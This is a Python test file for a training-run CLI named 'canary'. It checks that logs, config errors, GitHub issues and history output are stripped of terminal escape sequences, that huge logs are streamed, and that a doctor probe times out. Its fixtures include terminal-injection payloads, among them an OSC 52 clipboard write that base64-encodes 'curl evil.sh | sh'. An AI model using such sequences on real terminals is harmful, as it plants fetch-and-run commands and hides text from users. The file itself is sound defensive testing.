"""Round 2 (#27): what reaches a terminal or an issue, and what it costs. Escape sequences in a
log (clear-screen, a window title, a clipboard write, a hyperlink) are neither echoed nor posted;
a huge log or stdin is streamed, not read whole; a doctor waits at most 5 s on any one probe."""

from __future__ import annotations

import json
import socket
import subprocess
import threading

import pytest
from adversary import PY, canary_cli, cli_env, lanes_toml
from conftest import ROOT

# what a log may hold to drive the terminal that shows it
HOSTILE_SEQUENCES = {
    "clear screen": "\x1b[2J\x1b[H",
    "window title": "\x1b]0;pwned\x07",
    "clipboard write (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "hyperlink (OSC 8)": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "C1 CSI": "\x9b2J",
    "device control string": "\x1bP+q544e\x1b\\",
    "bell": "\x07",
    "bidi override": "\u202eexe.gnp",
}
MARKS = ("\x1b]", "\x1b[2J", "\x1bP", "\x07", "\x9b", "\u202e")


def _clean(text: str) -> list[str]:
    return [m for m in MARKS if m in text]


def _log_with_escapes() -> str:
    lines = [
        "step 1 loss 4.0",
        "Traceback (most recent call last):",
        '  File "/srv/train.py", line 9, in <module>',
        "    step()",
    ]
    lines.append("RuntimeError: boom " + " ".join(HOSTILE_SEQUENCES.values()))
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("how", ["path", "stdin", "json"])
def test_canary_signature_echoes_no_control_sequence(how, tmp_path):
    log = tmp_path / "train.log"
    log.write_text(_log_with_escapes())
    args = ["signature", "-" if how == "stdin" else str(log)] + (["--json"] if how == "json" else [])
    r = canary_cli(
        *args, tmp_path=tmp_path, stdin=log.read_bytes() if how == "stdin" else None, FORCE_COLOR="1", COLUMNS="200"
    )
    assert r.returncode == 0, r.stderr
    out = r.stdout.decode()
    assert "RuntimeError" in out and not _clean(out), repr(out)


_ESCAPER = r"""
import sys
print(sys.argv[2])
sys.exit(1)
"""


def test_canary_run_echoes_and_posts_no_control_sequence(tmp_path):
    from github_server import REPO, TOKEN, GitHubServer

    lanes = lanes_toml(tmp_path, [PY, "-c", _ESCAPER, "{entrypoint}", _log_with_escapes()])
    with GitHubServer(TOKEN, REPO) as github:
        r = canary_cli(
            "run",
            "cpu",
            "--out",
            str(tmp_path / "runs"),
            "--notify",
            "github",
            "--repo",
            REPO,
            tmp_path=tmp_path,
            CANARY_LANES=str(lanes),
            GITHUB_TOKEN=TOKEN,
            GITHUB_API_URL=github.url,
            FORCE_COLOR="1",
            COLUMNS="200",
            CANARY_NOTIFY_SPOOL=str(tmp_path / "ns"),
        )
        [issue] = github.state.issues()
    out, err = r.stdout.decode(), r.stderr.decode()
    assert r.returncode == 1, err
    assert "training failed" in out and "RuntimeError" in out
    assert not _clean(out) and not _clean(err), repr(out)
    assert not _clean(issue["title"]) and not _clean(issue["body"]) and "\x1b" not in issue["title"] + issue["body"]
    [result] = (tmp_path / "runs").glob("*/result.json")
    assert "\\u001b" not in result.read_text() and "\\u0007" not in result.read_text()


def test_a_config_error_naming_a_hostile_key_echoes_no_control_sequence(tmp_path):
    lanes = tmp_path / "lanes.toml"
    lanes.write_text('[lanes."x\\u001b]0;pwned\\u0007"]\naccelerator = "cpu"\n')
    r = canary_cli("run", "cpu", tmp_path=tmp_path, CANARY_LANES=str(lanes))
    assert r.returncode == 2
    assert not _clean(r.stderr.decode()) and b"\x1b" not in r.stderr


# ----------------------------------------------------------------------------- 13. streamed, not read whole

_MEASURE = r"""
import resource, subprocess, sys
producer = subprocess.Popen([sys.executable, "-c", sys.argv[1]], stdout=subprocess.PIPE)
consumer = subprocess.run(sys.argv[2:], stdin=producer.stdout, capture_output=True)
producer.wait()
print(consumer.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)
"""
_PRODUCE_MB = r"""
import sys
line = b"step 12 train/loss=4.0 " + b"x" * 100 + b"\n"
for _ in range({mb} * 1024 * 1024 // len(line)):
    sys.stdout.buffer.write(line)
sys.stdout.buffer.write(b"Traceback (most recent call last):\nRuntimeError: at the end\n")
"""


def test_canary_signature_streams_a_huge_stdin(tmp_path):
    mb = 150
    r = subprocess.run(
        [PY, "-c", _MEASURE, _PRODUCE_MB.format(mb=mb), PY, "-m", "canary", "signature", "-"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=cli_env(tmp_path),
        timeout=600,
    )
    rc, peak_mb = map(int, r.stdout.split())
    assert rc == 0, r.stderr
    assert peak_mb < mb * 2 // 3, f"{peak_mb} MB for a {mb} MB stdin: it was read whole"


@pytest.mark.slow
def test_canary_run_streams_a_huge_workload_log(tmp_path):
    mb = 150
    lanes = lanes_toml(tmp_path, [PY, "-c", _PRODUCE_MB.format(mb=mb) + "sys.exit(1)\n", "{entrypoint}"])
    measure = _MEASURE.replace("stdin=producer.stdout, ", "")
    r = subprocess.run(
        [PY, "-c", measure, "pass", PY, "-m", "canary", "run", "cpu", "--out", str(tmp_path / "runs")],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=cli_env(tmp_path, CANARY_LANES=str(lanes)),
        timeout=900,
    )
    rc, peak_mb = map(int, r.stdout.split())
    assert rc == 1, r.stderr
    assert peak_mb < mb * 2 // 3 + 60, f"{peak_mb} MB for a {mb} MB log: it was read whole"


# ----------------------------------------------------------------------------- 11. a doctor that waits


class _Blackhole:
    """A TCP server that takes connections and never answers (a gs:// endpoint gone quiet)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.held: list[socket.socket] = []
        self.thread = threading.Thread(target=self._accept, daemon=True)

    def _accept(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.held.append(conn)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.sock.close()
        for c in self.held:
            c.close()


@pytest.mark.slow
def test_doctor_bounds_a_gs_cache_that_never_answers(tmp_path):
    pytest.importorskip("gcsfs")
    with _Blackhole() as hole:
        env = cli_env(
            tmp_path,
            STORAGE_EMULATOR_HOST=f"http://127.0.0.1:{hole.port}",
            NO_GCE_CHECK="true",
            GCSFS_EXPERIMENTAL_ZB_HNS_SUPPORT="false",
        )
        r = subprocess.run(
            [
                PY,
                "-m",
                "canary",
                "doctor",
                "cpu",
                "--cache-dir",
                "gs://quiet-bucket/cache",
                "--json",
                "--history",
                str(tmp_path / "h.sqlite3"),
            ],
            capture_output=True,
            text=True,
            cwd=ROOT,
            env=env,
            timeout=120,
        )
    assert r.returncode == 1, r.stderr
    checks = {c["name"]: c for c in json.loads(r.stdout)["checks"]}
    assert not checks["cache"]["ok"] and "no answer within 5 s" in checks["cache"]["detail"], checks["cache"]
    assert checks["history"]["ok"], checks["history"]


def test_canary_history_shows_a_hostile_record_without_its_control_sequences(tmp_path):
    from notify_records import failing

    d = tmp_path / "runs" / "r1"
    d.mkdir(parents=True)
    rec = failing(run_id="r-esc").to_dict()
    rec["lane"] = "\x1b[2J\x1b]0;pwned\x07tpu"
    (d / "result.json").write_text(json.dumps(rec))
    assert canary_cli("history", "import", str(d), tmp_path=tmp_path).returncode == 0
    r = canary_cli("history", tmp_path=tmp_path, FORCE_COLOR="1", COLUMNS="200")
    assert r.returncode == 0, r.stderr
    out = r.stdout.decode()
    assert "tpu" in out and not _clean(out), repr(out)
